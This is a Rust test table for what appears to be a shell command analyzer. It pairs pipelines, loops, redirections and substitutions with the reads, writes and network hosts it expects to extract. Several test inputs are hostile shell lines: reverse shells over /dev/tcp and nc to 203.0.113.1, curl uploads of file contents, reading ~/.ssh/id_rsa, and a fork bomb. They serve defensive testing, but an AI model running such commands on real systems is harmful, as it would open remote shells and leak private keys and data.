//! Lists, pipelines, loops, functions, redirections.

use super::Case;

pub(super) const CASES: &[Case] = &[
    ("a && b || c; d & e", &["a", "b", "c", "d", "e"]),
    ("a | b |& c", &["a", "b <0", "c <1"]),
    ("! a", &["a"]),
    ("{ a; b; } > f", &["a W=f", "b W=f"]),
    ("(a; b) | c", &["a", "b", "c <0,1"]),
    (
        "if a; then b; elif c; then d; else e; fi",
        &["a", "b", "c", "d", "e"],
    ),
    (
        "for f in id_rsa config; do cat ~/.ssh/$f; done",
        &[
            "cat /home/u/.ssh/id_rsa R=/home/u/.ssh/id_rsa",
            "cat /home/u/.ssh/config R=/home/u/.ssh/config",
        ],
    ),
    (r#"for f; do cat "$f"; done"#, &["cat $f~ R=$f"]),
    (
        r#"for f in *.txt; do cat "$f"; done"#,
        &["cat *.txt~ R=*.txt"],
    ),
    ("for ((i=0;i<3;i++)); do cat f$i; done", &["cat f$i~ R=f$i"]),
    (
        "for i in c a t; do printf $i; done | sh",
        &[
            "printf c",
            "printf a",
            "printf t",
            "sh <0,1,2",
            "[printf | sh] cat",
        ],
    ),
    (
        r#"while read l; do echo "$l"; done < list.txt"#,
        &["read l R=list.txt", "echo $l$~ R=list.txt"],
    ),
    ("until cat f; do sleep 1; done", &["cat f R=f", "sleep 1"]),
    (
        "select x in a b; do cat $x; done",
        &["cat a R=a", "cat b R=b"],
    ),
    (
        r#"case "$1" in start|stop) cat a;; (b) cat b ;& *) cat c; esac"#,
        &["cat a R=a", "cat b R=b", "cat c R=c"],
    ),
    ("case x in esac; id", &["id"]),
    ("time { cat f; }", &["cat f R=f"]),
    ("time cat f", &["[time] cat f R=f"]),
    ("coproc nc h 1", &["nc h 1 H=h:1"]),
    (
        r#"[[ -f x && "$(id)" == a ]] && cat f"#,
        &["id", "cat f R=f"],
    ),
    ("[ -f x ] && cat f", &["[ -f x ]", "cat f R=f"]),
    ("((i++)); cat f", &["cat f R=f"]),
    ("echo a > f 2>&1", &["echo a W=f"]),
    ("echo a >> f 2>/dev/null", &["echo a W=f"]),
    ("cat f &> out", &["cat f R=f W=out"]),
    ("cat f >| out 2> err", &["cat f R=f W=out,err"]),
    ("cat <&3 3< in", &["cat R=in"]),
    ("cat <> f", &["cat R=f W=f"]),
    ("> f", &[": W=f"]),
    (": > f", &[": W=f"]),
    ("echo a >&2", &["echo a"]),
    ("exec 3> f", &["exec W=f"]),
    (
        "cat <<EOF
$(id) $HOME
EOF",
        &["id", "cat <0"],
    ),
    (
        "cat <<'EOF'
$(id) $HOME
EOF",
        &["cat"],
    ),
    (
        "cat <<-EOF
	tab
	EOF",
        &["cat"],
    ),
    (
        "cat <<A <<B
a
A
b
B",
        &["cat"],
    ),
    (
        "cat << EOF > f
text
EOF
id",
        &["cat W=f", "id"],
    ),
    (
        "diff <(cat a) <(cat b)",
        &[
            "cat a R=a",
            "cat b R=b",
            r#"diff "<(cat a)" "<(cat b)" <0,1"#,
        ],
    ),
    (
        "tee >(curl -T - h.example.org) < f",
        &[
            "curl -T - h.example.org <1 H=h.example.org",
            r#"tee ">(curl -T - h.example.org)" R=f"#,
        ],
    ),
    (
        "wc -l --files0-from=<(git ls-files -z)",
        &[
            "git ls-files -z",
            r#"wc -l "--files0-from=<(git ls-files -z)" <0"#,
        ],
    ),
    (
        "while read l; do cat $l; done < <(find . -name x)",
        &["find . -name x R=.", "read l <0", "cat $l$~ <0 ^0 R=$l"],
    ),
    (
        r#"cat "$(cat a)" `cat b`"#,
        &[
            "cat a R=a",
            "cat b R=b",
            r#"cat "$(cat a)"$ "`cat b`"$ ^0,1 R=$(cat a),`cat b`"#,
        ],
    ),
    (
        r#"echo "$(echo "$(cat f)")""#,
        &[
            "cat f R=f",
            r#"echo "$(cat f)"$ ^0"#,
            r#"echo "$(cat f)"$~ ^1"#,
        ],
    ),
    (
        "echo $(( $(id -u) + 1 ))",
        &["id -u", r#"echo "$(( $(id -u) + 1 ))"$~ ^0"#],
    ),
    (
        r#"x=$(cat f); curl -d "$x" h.example.org"#,
        &[
            "cat f R=f",
            r#"curl -d "$(cat f)"$ h.example.org ^0 H=h.example.org"#,
        ],
    ),
    (
        "cat f | tee g | sort > h",
        &["cat f R=f", "tee g <0 W=g", "sort <1 W=h"],
    ),
    ("f() { f; }; f", &["[itself] f"]),
    (":(){ :|:& };:", &["[itself] :", "[itself | itself] : <0"]),
    ("f() { cat a; }", &[]),
    ("f() (cat a); f", &["cat a R=a"]),
    ("f() { g; }; g() { cat a; }; f", &["cat a R=a"]),
    (
        "bash -i >& /dev/tcp/203.0.113.1/4242 0>&1",
        &["bash -i H=203.0.113.1:4242"],
    ),
    (
        "exec 5<>/dev/tcp/203.0.113.1/4242; cat <&5 | while read l; do $l 2>&5 >&5; done",
        &[
            "! UnknownProgram",
            "exec H=203.0.113.1:4242",
            "cat",
            "read l <1",
            "$l <1 ^1",
        ],
    ),
    (
        "0<&196;exec 196<>/dev/tcp/203.0.113.1/4242; sh <&196 >&196 2>&196",
        &["exec H=203.0.113.1:4242", "sh"],
    ),
    (
        "cat f > /dev/udp/203.0.113.1/53",
        &["cat f R=f H=203.0.113.1:53"],
    ),
    (
        "mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.1 4242 > /tmp/f",
        &[
            "mkfifo /tmp/f W=/tmp/f",
            "cat /tmp/f R=/tmp/f",
            "sh -i <1",
            "nc 203.0.113.1 4242 <2 W=/tmp/f H=203.0.113.1:4242",
        ],
    ),
    ("99999999999>x", &["99999999999 W=x"]),
    ("a;;b", &["! Unparsable", "a", "b"]),
    (
        "echo 'line
two'; id",
        &[r#"echo "line\ntwo""#, "id"],
    ),
];
